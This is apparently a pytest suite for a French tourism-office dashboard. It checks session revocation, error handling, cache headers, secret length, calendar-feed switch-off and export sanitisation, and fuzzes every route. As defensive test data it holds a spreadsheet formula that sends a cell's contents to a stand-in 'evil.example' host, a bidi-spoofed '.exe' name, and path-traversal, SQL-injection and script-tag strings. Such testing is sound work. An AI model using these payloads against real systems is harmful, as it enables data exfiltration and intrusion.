"""Dashboard security: revocable sessions, refusals instead of 500s, bidi controls, caches, the secret, the feed."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from urllib.parse import quote

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import select

from bot.bootstrap import App, bootstrap
from bot.cli import main
from bot.clock import ManualClock
from bot.config import Config, WebConfig
from bot.storage.tables import AuditLog, Office, Person, Session, WebSession
from bot.web import auth, build_app

from .test_web import OFFICE, SECRET, TestClient, count, log_in, new_client, seed, web_config


@pytest.fixture
def dash(config: Config, clock: ManualClock, database_url: str, tmp_path: Path) -> Iterator[App]:
    application = bootstrap(
        web_config(config, "http://testserver", tmp_path / "faq"), clock=clock, database_url=database_url, migrate=False
    )
    yield application
    application.close()


@pytest.fixture
def visitor(dash: App) -> TestClient:
    return TestClient(build_app(dash, secret=SECRET), follow_redirects=False)


def test_a_cookie_copied_before_logout_no_longer_opens_anything(dash: App, visitor: TestClient) -> None:
    csrf = log_in(visitor, dash, "camille-ant")
    copied = visitor.cookies.get(auth.COOKIE)
    assert copied
    assert visitor.post("/logout", data={"csrf": csrf}).status_code == 303
    thief = new_client(dash)
    thief.cookies.set(auth.COOKIE, copied)
    assert thief.get("/questions").status_code == 401
    assert thief.post(f"/offices/{OFFICE}/calendar", data={"csrf": csrf}).status_code in (401, 403)
    with dash.sessions() as db:
        assert db.get(Office, OFFICE).ics_token is None  # type: ignore[union-attr]
    with dash.sessions() as db:
        rows = list(db.scalars(select(WebSession)))
        assert len(rows) == 1 and rows[0].ended_at is not None  # only a hash, now ended


def test_log_out_everywhere_ends_every_session_of_the_person(dash: App, visitor: TestClient) -> None:
    phone, laptop, colleague = new_client(dash), new_client(dash), new_client(dash)
    log_in(phone, dash, "camille-ant")
    csrf = log_in(laptop, dash, "camille-ant")
    log_in(colleague, dash, "julien-accueil")
    assert "Se déconnecter partout" in laptop.get("/").text
    out = laptop.post("/logout/all", data={"csrf": csrf})
    assert out.status_code == 303 and out.headers["location"] == "/login?ok=logout_all"
    assert "tous vos appareils" in laptop.get(out.headers["location"]).text
    assert phone.get("/").status_code == 401 and laptop.get("/").status_code == 401
    assert colleague.get("/").status_code == 200  # someone else's session is untouched
    assert count(dash, AuditLog, AuditLog.action == "web.logout_all") == 1
    assert new_client(dash).post("/logout/all", data={"csrf": csrf}).status_code in (401, 403)


def test_sessions_still_expire_on_the_server(dash: App, visitor: TestClient) -> None:
    log_in(visitor, dash, "julien-accueil")
    with dash.sessions.begin() as db:
        for row in db.scalars(select(WebSession)):
            row.expires_at = datetime(2020, 1, 1, tzinfo=UTC)
    assert visitor.get("/").status_code == 401


@pytest.mark.parametrize(
    "url",
    [
        "/questions?session=²",
        "/questions?page=²",
        "/questions?page=99999999999999999999",
        "/questions?session=99999999999999999999999",
        "/questions?from=0001-01-01",
        "/questions?to=9999-12-31",
        "/questions?from=0001-01-01&to=9999-12-31",
        "/questions/export.csv?to=9999-12-31",
        "/questions/export.xlsx?session=²",
    ],
)
def test_odd_parameters_are_refused_with_400_not_500(dash: App, visitor: TestClient, url: str) -> None:
    seed(dash)
    log_in(visitor, dash, "camille-ant")
    page = visitor.get(url)
    assert page.status_code == 400, page.text
    assert "Problème technique" not in page.text and "Se déconnecter" in page.text


@pytest.mark.parametrize("target", ["²", "99999999999999999999", "-1", "0", "n°²", "١٢"])
def test_merge_into_an_odd_number_is_a_404(dash: App, visitor: TestClient, target: str) -> None:
    ids = seed(dash)
    csrf = log_in(visitor, dash, "camille-ant")
    number = ids["facebook"]
    page = visitor.post(f"/questions/{number}/merge", data={"csrf": csrf, "target": target})
    assert page.status_code == 404 and "Rien n'a été modifié" in page.text


def test_a_crash_shows_the_error_page_with_the_menu_of_the_signed_in_person(
    dash: App, visitor: TestClient, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    from bot.web import question_log

    log_in(visitor, dash, "julien-accueil")

    def broken(*_args: object, **_kwargs: object) -> None:
        raise RuntimeError("panne simulée")

    monkeypatch.setattr(question_log.search, "page", broken)
    page = visitor.get("/questions")
    assert page.status_code == 500 and "Problème technique" in page.text
    assert "Se déconnecter" in page.text and "Connecté : Julien" in page.text
    assert "panne simulée" not in page.text and "panne simulée" in caplog.text


def test_bidi_controls_never_reach_the_page(dash: App, visitor: TestClient) -> None:
    seed(dash)
    with dash.sessions.begin() as db:
        person = db.scalars(select(Person).where(Person.slug == "julien-accueil")).one()
        person.name = "Julien \u202egnp.exe"
        provider = db.scalars(select(Person).where(Person.slug == "gite-du-moulin")).one()
        provider.business = "Gîte \u2066du\u2069 \u202bMoulin\u202c"
    log_in(visitor, dash, "julien-accueil")
    for url in ("/", "/questions", "/sessions"):
        text = visitor.get(url).text
        assert not any(ch in text for ch in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"), url
    assert "Julien gnp.exe" in visitor.get("/").text
    assert "Gîte du Moulin" in visitor.get("/questions").text


@pytest.mark.parametrize("path", ["/login", "/login/pas-un-vrai-lien-mais-assez-long"])
def test_login_pages_are_never_cached(visitor: TestClient, path: str) -> None:
    assert visitor.get(path).headers["cache-control"] == "no-store"


def test_authenticated_pages_are_never_cached(dash: App, visitor: TestClient) -> None:
    log_in(visitor, dash, "camille-ant")
    for url in ("/", "/questions", "/sessions", "/questions/export.csv"):
        assert visitor.get(url).headers["cache-control"] == "no-store", url


def test_the_signing_secret_is_required_behind_https_and_must_be_long() -> None:
    https = WebConfig(enabled=True, base_url="https://klub.example.fr")
    with pytest.raises(auth.SecretError, match="KLUB_WEB_SECRET : variable obligatoire"):
        auth.secret_from(https, {})
    with pytest.raises(auth.SecretError, match="trop court"):
        auth.secret_from(https, {"KLUB_WEB_SECRET": "x" * 31})
    with pytest.raises(auth.SecretError, match="trop court"):
        auth.secret_from(WebConfig(), {"KLUB_WEB_SECRET": "court"})
    assert auth.secret_from(https, {"KLUB_WEB_SECRET": "x" * 32}) == (b"x" * 32, True)
    secret, persistent = auth.secret_from(WebConfig(), {})  # local http: a random one, with a warning
    assert len(secret) == 32 and not persistent


def test_klub_web_refuses_to_start_behind_https_without_a_secret(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    from .test_hostile_files import _config

    monkeypatch.delenv("KLUB_WEB_SECRET", raising=False)
    path = _config(tmp_path, lambda raw: raw["web"].update(enabled=True, base_url="https://klub.example.fr"))
    assert main(["--config", str(path), "web"]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "KLUB_WEB_SECRET" in err[0] and "https" in err[0]
    monkeypatch.setenv("KLUB_WEB_SECRET", "trop-court")
    assert main(["--config", str(path), "run"]) == 2
    assert "trop court" in capsys.readouterr().err


def test_the_calendar_feed_can_be_switched_off(dash: App, visitor: TestClient) -> None:
    seed(dash)
    csrf = log_in(visitor, dash, "camille-ant")
    visitor.post(f"/offices/{OFFICE}/calendar", data={"csrf": csrf})
    with dash.sessions() as db:
        token = db.get(Office, OFFICE).ics_token  # type: ignore[union-attr]
    assert new_client(dash).get(f"/ics/{token}.ics").status_code == 200
    assert "Désactiver le lien" in visitor.get("/sessions").text
    off = visitor.post(f"/offices/{OFFICE}/calendar/off", data={"csrf": csrf})
    assert off.status_code == 303 and off.headers["location"] == "/sessions?ok=calendar_off"
    assert new_client(dash).get(f"/ics/{token}.ics").status_code == 404
    page = visitor.get("/sessions").text
    assert "Créer le lien d'abonnement" in page and "Désactiver le lien" not in page
    with dash.sessions() as db:
        assert db.get(Office, OFFICE).ics_token is None  # type: ignore[union-attr]
        actions = [a.detail for a in db.scalars(select(AuditLog).where(AuditLog.action == "calendar.link"))]
    assert actions[-1] == "lien désactivé"
    staff = new_client(dash)
    staff_csrf = log_in(staff, dash, "julien-accueil")
    assert staff.post(f"/offices/{OFFICE}/calendar/off", data={"csrf": staff_csrf}).status_code == 403


def test_a_session_at_the_end_of_time_breaks_neither_the_feed_nor_the_pages(dash: App, visitor: TestClient) -> None:
    seed(dash)
    with dash.sessions.begin() as db:
        far = db.scalars(select(Session).where(Session.office_id == OFFICE)).first()
        assert far is not None
        far.starts_at = datetime(9999, 12, 31, 23, 30, tzinfo=UTC)  # past midnight in Paris: year 10000
        far.duration_minutes = 24 * 60
        number = far.id
    csrf = log_in(visitor, dash, "camille-ant")
    visitor.post(f"/offices/{OFFICE}/calendar", data={"csrf": csrf})
    with dash.sessions() as db:
        token = db.get(Office, OFFICE).ics_token  # type: ignore[union-attr]
    feed = new_client(dash).get(f"/ics/{token}.ics")
    assert feed.status_code == 200 and "DTSTART:99991231T233000Z" in feed.text
    assert visitor.get("/sessions").status_code == 200
    assert visitor.get(f"/sessions/{number}").status_code == 200


def test_dashboard_exports_carry_no_formula(dash: App, visitor: TestClient) -> None:
    seed(dash)
    with dash.sessions.begin() as db:
        provider = db.scalars(select(Person).where(Person.slug == "gite-du-moulin")).one()
        provider.business = '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")'
    log_in(visitor, dash, "camille-ant")
    sheet = load_workbook(io.BytesIO(visitor.get("/questions/export.xlsx").content)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert any(isinstance(c.value, str) and c.value.startswith("'=HYPERLINK") for c in cells)
    text = visitor.get("/questions/export.csv").content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)
    assert not any(cell.lstrip()[:1] in ("=", "+", "-", "@") for cell in cells)


# -- fuzzing: every parameter of every route, 0 responses of 500 ------------------------------------------

EDGES = [
    "", "²", "0", "-1", "1e3", "9" * 30, "18446744073709551616", "0001-01-01", "9999-12-31", "2026-02-30",
    "31/12/9999", "\x00", "\u202e", "\u0661", "%00", "../../etc/passwd", "<script>", "' OR 1=1 --", "n°²", " " * 50,
]  # fmt: skip
TEXT = st.one_of(
    st.sampled_from(EDGES),
    st.text(st.characters(blacklist_categories=("Cs",)), max_size=30),  # httpx cannot send lone surrogates
    st.integers(min_value=-(2**70), max_value=2**70).map(str),
)
FILTERS = ("office", "from", "to", "status", "source", "session", "theme", "q")
# Every parameter each page reads (checked against the code: a page reading a new one belongs here too).
PARAMETERS = [
    *[("/", name) for name in ("office", "ok")],
    *[("/questions", name) for name in (*FILTERS, "page", "ok")],
    *[("/questions/export.csv", name) for name in FILTERS],
    *[("/questions/export.xlsx", name) for name in ("from", "to", "session")],
    ("/sessions", "office"),
    ("/login", "ok"),
]
FORM_FIELDS = {"status": ("status", "note"), "dismiss": ("reason",), "merge": ("target",), "draft": ()}
FUZZ = settings(
    max_examples=12,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@pytest.fixture
def ant(dash: App, visitor: TestClient) -> tuple[TestClient, str]:
    seed(dash)
    return visitor, log_in(visitor, dash, "camille-ant")


@pytest.mark.parametrize(("page", "name"), PARAMETERS, ids=[f"{p}?{n}" for p, n in PARAMETERS])
def test_every_edge_value_of_every_query_parameter(ant: tuple[TestClient, str], page: str, name: str) -> None:
    web, _csrf = ant
    for value in EDGES:
        response = web.get(page, params={name: value})
        assert response.status_code < 500, (page, name, value, response.text[:300])


@FUZZ
@given(
    where=st.sampled_from(PARAMETERS),
    value=TEXT,
    others=st.dictionaries(st.sampled_from(FILTERS), TEXT, max_size=3),
)
def test_fuzz_query_parameters(
    ant: tuple[TestClient, str], where: tuple[str, str], value: str, others: dict[str, str]
) -> None:
    web, _csrf = ant
    page, name = where
    response = web.get(page, params={**others, name: value})
    assert response.status_code < 500, (page, name, value, others, response.text[:300])


@FUZZ
@given(
    template=st.sampled_from(
        (
            "/questions/{}",
            "/sessions/{}",
            "/questions/1/drafts/{}",
            "/ics/{}.ics",
            "/login/{}",
            "/{}",
            "/questions/{}/status",
        )
    ),
    word=TEXT,
)
def test_fuzz_path_parameters(ant: tuple[TestClient, str], template: str, word: str) -> None:
    web, _csrf = ant
    response = web.get(template.format(quote(word, safe="")))
    assert response.status_code < 500, (template, word, response.text[:300])


def test_every_edge_value_of_every_form_field(ant: tuple[TestClient, str]) -> None:
    web, csrf = ant
    for value in EDGES:
        posts = [(f"/questions/3/{act}", {field: value}) for act, fields in FORM_FIELDS.items() for field in fields]
        posts.append(("/sessions/1/attendance", {"attended": value}))
        for path, form in posts:
            response = web.post(path, data={"csrf": csrf, **form})
            assert response.status_code < 500, (path, form, response.text[:300])


@FUZZ
@given(
    action=st.sampled_from(sorted(FORM_FIELDS)),
    number=st.one_of(st.integers(min_value=1, max_value=12), st.sampled_from([0, 2**63, 10**30])).map(str),
    values=st.lists(TEXT, min_size=2, max_size=2),
    attended=st.lists(TEXT, max_size=3),
    office=st.one_of(st.sampled_from([OFFICE, "ot-haut-plateau"]), TEXT),
)
def test_fuzz_forms(
    ant: tuple[TestClient, str], action: str, number: str, values: list[str], attended: list[str], office: str
) -> None:
    web, csrf = ant
    form = {"csrf": csrf, **dict(zip(FORM_FIELDS[action], values, strict=False))}
    responses = [
        web.post(f"/questions/{number}/{action}", data=form),
        web.post(f"/sessions/{number}/attendance", data={"csrf": csrf, "attended": attended}),
        web.post(f"/offices/{quote(office, safe='')}/calendar", data={"csrf": csrf}),
        web.post(f"/offices/{quote(office, safe='')}/calendar/off", data={"csrf": values[0]}),
        web.post(f"/login/{quote(values[1], safe='')}", data={"csrf": csrf}),
    ]
    for response in responses:
        assert response.status_code < 500, (action, number, values, response.text[:300])
